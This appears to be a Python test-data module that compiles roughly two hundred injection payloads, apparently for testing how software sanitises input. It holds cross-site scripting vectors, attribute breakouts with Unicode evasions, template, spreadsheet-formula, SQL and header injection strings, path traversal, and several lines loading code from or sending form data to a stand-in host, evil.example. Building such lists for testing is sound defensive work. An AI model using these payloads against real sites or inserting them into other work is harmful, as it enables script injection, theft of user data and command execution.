"""Some two hundred ways to get a script to run. Each calls `ran()`, and marks what it makes with `data-ran`."""

RUN = "window.__ran=1;alert(1)"

# Elements that run something by themselves.
ELEMENTS = [
    f"<script data-ran>{RUN}</script>", f"<ScRiPt data-ran>{RUN}</sCrIpT>", f"<script data-ran\n>{RUN}</script\n>",
    f"<script data-ran/x>{RUN}</script>", "<script data-ran src=data:,alert(1)></script>",
    "<script data-ran src=//evil.example/x.js></script>", f"<script data-ran type=module>{RUN}</script>",
    f"<scr<script data-ran>ipt>{RUN}</script>", f"</script><script data-ran>{RUN}</script>",
    f"<img data-ran src=x onerror={RUN}>", f"<img data-ran src=x onerror='{RUN}'>", f'<img data-ran src=x onerror="{RUN}">',
    f"<img data-ran/src=x/onerror={RUN}>", f"<IMG DATA-RAN SRC=x OnErRoR={RUN}>", f"<img data-ran src=x\nonerror\n=\n{RUN}>",
    f"<img data-ran src=x onerror\x0c={RUN}>", f"<<img data-ran src=x onerror={RUN}>//", "<img data-ran src=javascript:alert(1)>",
    "<img data-ran src=`x`onerror=alert(1)>", f"<image data-ran src=x onerror={RUN}>", f"<svg data-ran onload={RUN}>",
    f"<svg data-ran/onload={RUN}>", f"<svg data-ran><script>{RUN}</script></svg>",
    "<svg data-ran><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg data-ran><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg data-ran><set onbegin=alert(1) attributeName=x>",
    "<svg data-ran><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<svg data-ran><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg data-ran><style><img src=x onerror=alert(1)></style></svg>", f"<math data-ran><mtext><img src=x onerror={RUN}></mtext></math>",
    "<math data-ran href=javascript:alert(1)>x</math>", "<math data-ran><mi xlink:href=javascript:alert(1)>x</mi></math>",
    f"<body data-ran onload={RUN}>", f"<body data-ran onpageshow={RUN}>", f"<html data-ran onmouseover={RUN}>",
    f"<iframe data-ran src=javascript:alert(1)></iframe>", f"<iframe data-ran srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<iframe data-ran onload={RUN}></iframe>", "<embed data-ran src=javascript:alert(1)>", "<object data-ran data=javascript:alert(1)></object>",
    "<object data-ran data=data:text/html,<script>alert(1)</script>></object>", "<applet data-ran code=x></applet>",
    "<base data-ran href=//evil.example/>", "<meta data-ran http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta data-ran http-equiv=refresh content=0;url=//evil.example>", "<link data-ran rel=stylesheet href=//evil.example/x.css>",
    "<link data-ran rel=import href=//evil.example/x>", "<style data-ran>@import'//evil.example/x.css';</style>",
    "<style data-ran>*{background:url(//evil.example/x)}</style>", "<style data-ran>body{display:none}</style>",
    f"<video data-ran><source onerror={RUN}></video>", f"<video data-ran src=x onerror={RUN}></video>",
    f"<audio data-ran src=x onerror={RUN}></audio>", f"<details data-ran open ontoggle={RUN}>x</details>",
    f"<marquee data-ran onstart={RUN}>x</marquee>", f"<input data-ran autofocus onfocus={RUN}>",
    f"<select data-ran autofocus onfocus={RUN}></select>", f"<textarea data-ran autofocus onfocus={RUN}></textarea>",
    f"<keygen data-ran autofocus onfocus={RUN}>", f"<button data-ran popovertarget=x onclick={RUN}>x</button>",
    f"<div data-ran popover id=x onbeforetoggle={RUN}>x</div>", f"<x data-ran onclick={RUN}>x</x>",
    f"<x data-ran tabindex=1 autofocus onfocus={RUN}>x</x>", f"<x data-ran contenteditable onblur={RUN}>x</x>",
    f"<a data-ran href=javascript:alert(1)>x</a>", f"<a data-ran href='java\tscript:alert(1)'>x</a>",
    "<a data-ran href=&#106;avascript:alert(1)>x</a>", "<a data-ran href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a data-ran href=vbscript:msgbox(1)>x</a>", "<form data-ran action=javascript:alert(1)><button>x</button></form>",
    "<form data-ran action=//evil.example><button>x</button></form>", "<button data-ran form=letter formaction=//evil.example>x</button>",
    "<isindex data-ran action=javascript:alert(1)>", "<table data-ran background=javascript:alert(1)>",
    "<div data-ran style=background:url(javascript:alert(1))>x</div>", "<div data-ran style=width:expression(alert(1))>x</div>",
    f"<template data-ran><script>{RUN}</script></template>", f"<noscript data-ran><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<dialog data-ran open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<frameset data-ran onload={RUN}>", "<plaintext data-ran>", "<xmp data-ran><img src=x onerror=alert(1)></xmp>",
    "<listing data-ran>&lt;img src=x onerror=alert(1)&gt;</listing>", f"<slot data-ran onslotchange={RUN}></slot>",
    f"<portal data-ran src=javascript:alert(1)>", f"<fencedframe data-ran></fencedframe>",
]

# Ways out of the element or the attribute that the text stands in.
BREAKOUTS = [
    f'"><img data-ran src=x onerror={RUN}>', f"'><img data-ran src=x onerror={RUN}>", f"`><img data-ran src=x onerror={RUN}>",
    f"--><img data-ran src=x onerror={RUN}><!--", f"]]><img data-ran src=x onerror={RUN}>",
    f"</textarea><img data-ran src=x onerror={RUN}>", f"</title><script data-ran>{RUN}</script>",
    f"</style><script data-ran>{RUN}</script>", f"</option></select><img data-ran src=x onerror={RUN}>",
    f"</pre><script data-ran>{RUN}</script>", f"</iframe><script data-ran>{RUN}</script>", f"</q></p><svg data-ran onload={RUN}>",
    f"</mark></div><svg data-ran onload={RUN}>", f"</noscript><script data-ran>{RUN}</script>", f"</button></form><form data-ran>",
    f'" data-ran autofocus onfocus="{RUN}', f"' data-ran autofocus onfocus='{RUN}", f"x data-ran autofocus onfocus={RUN}",
    f'" data-ran onmouseover="{RUN}" x="', f'" data-ran style="background:url(//evil.example/x)', f'"/data-ran/onclick="{RUN}',
    f'" data-ran formaction="//evil.example', f'" data-ran srcdoc="<script>{RUN}</script>', f'" data-ran accesskey="x" onclick="{RUN}',
    # A quote that carries a combining mark is one character to whoever replaces characters, not code points.
    f"\"\u0301 data-ran autofocus onfocus={RUN} x=", f"'\u0301 data-ran autofocus onfocus={RUN} x=", f"\"\u0338 data-ran onclick={RUN} ",
    f"<\u0338img data-ran src=x onerror={RUN}>", f"<\u0301script data-ran>{RUN}</script>", f">\u0301<img data-ran src=x onerror={RUN}>",
    f"&\u0301lt;img data-ran&gt;", f"\"\u200d data-ran onfocus={RUN} ", f"\"\ufe0f data-ran onfocus={RUN} ", f"\"\u20e3><svg data-ran onload={RUN}>",
    f"\"\u0903><img data-ran src=x onerror={RUN}>", f"<\ufe0fscript data-ran>{RUN}</script>",
]

# What other machines than the browser read: templates, merge fields, scripts, spreadsheets.
LANGUAGES = [
    "{{body}}", "{{{body}}}", "{{{{body}}}}", "{{&body}}", "{{>page/frame}}", "{{#people}}{{.}}{{/people}}", "{{form_token}}",
    "{{=<% %>=}}<%body%>", "[[page.skip]]", "[[{name}]]", "{name}", "{first_name}", "{first_name|<img data-ran src=x onerror=alert(1)>}",
    "{first_name|\"><svg data-ran onload=alert(1)>}", "{notes|x}", "{email|x}", "{unknown_field|x}", "*|FNAME|*", "%%first_name%%",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "@(7*7)", "$(id)", "`id`",
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/c calc'!A0", "\t=1+1", ";=1+1", "%0A=1+1",
    "'; DROP TABLE customer; --", "' OR 1=1 --", "\" OR \"\"=\"", "x' UNION SELECT 1 --", "$1", "%s%s%n", "../../etc/passwd",
    "[words](javascript:alert(1))", "[words](JaVaScRiPt:alert(1))", "[words](java\tscript:alert(1))", "[words](data:text/html,<script>alert(1)</script>)",
    "[words](vbscript:alert(1))", "[words](https://x.example/\"onmouseover=\"alert(1))", "[words](https://x.example/'><svg data-ran onload=alert(1)>)",
    "[<img data-ran src=x onerror=alert(1)>](https://x.example)", "![x](x\"onerror=\"alert(1))", "**<svg data-ran onload=alert(1)>**",
    "_<img data-ran src=x onerror=alert(1)>_", "- <script data-ran>alert(1)</script>", "<https://x.example/\"><svg data-ran onload=alert(1)>>",
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "javascript://%0aalert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example", "https:evil.example", "/\\evil.example",
    "';alert(1)//", "\";alert(1)//", "\\\";alert(1)//", "</script>", "<!--<script>", "]]>", "-alert(1)-", "${alert(1)}", "'-alert(1)-'",
    "*/alert(1)/*", "__proto__", "constructor", "{\"__proto__\":{\"ran\":1}}", "url(javascript:alert(1))",
]

# Texts that are hard to hold.
LETTERS = [
    "&lt;img data-ran src=x onerror=alert(1)&gt;", "&#60;img data-ran src=x onerror=alert(1)&#62;", "&amp;lt;script&amp;gt;", "&#x3c;svg data-ran&#x3e;",
    "%3Cimg%20data-ran%20src=x%20onerror=alert(1)%3E", "%253Cscript%253E", "\\u003cimg data-ran src=x onerror=alert(1)\\u003e", "\\x3cscript\\x3e",
    "\uff1cscript data-ran\uff1ealert(1)\uff1c/script\uff1e", "\u2039img data-ran\u203a", "\u202e<img data-ran src=x onerror=alert(1)>", "\u2066\u202d>\u2069",
    "\ufeff<script data-ran>alert(1)</script>", "<scr\u200bipt data-ran>alert(1)</script>", "\u00bcscript\u00be", "\u0130mg \u0131", "\U000e0041\U0001f600<b data-ran>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028alert(1)\u2029", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306<b data-ran>", "\x01\x02<b data-ran>", "%00<b data-ran>",
    "\u0000<img data-ran src=x onerror=alert(1)>", "<img data-ran src=x onerror=alert(1)\u0000>", "<\u0000script data-ran>alert(1)</script>",
    "x\r\nBcc: evil@evil.example", "x\nSet-Cookie: ran=1", "x%0d%0aLocation:%20//evil.example",
    "<b data-ran>" * 12, "\"'<>&" * 12, "<" * 60, "A" * 95 + "<b data-ran>",
]

PAYLOADS = list(dict.fromkeys(ELEMENTS + BREAKOUTS + LANGUAGES + LETTERS))


def batches(most):
    """All of them in texts of at most `most` characters, on one line. One that may be refused stands alone."""
    found, text = [], ""
    for payload in PAYLOADS:
        if any(ord(letter) < 32 or letter in "\u2028\u2029" for letter in payload) or len(payload) > most:
            found.append(payload)
        elif len(text) + len(payload) + 1 > most:
            found.append(text)
            text = payload
        else:
            text = f"{text} {payload}" if text else payload
    return found + [text]
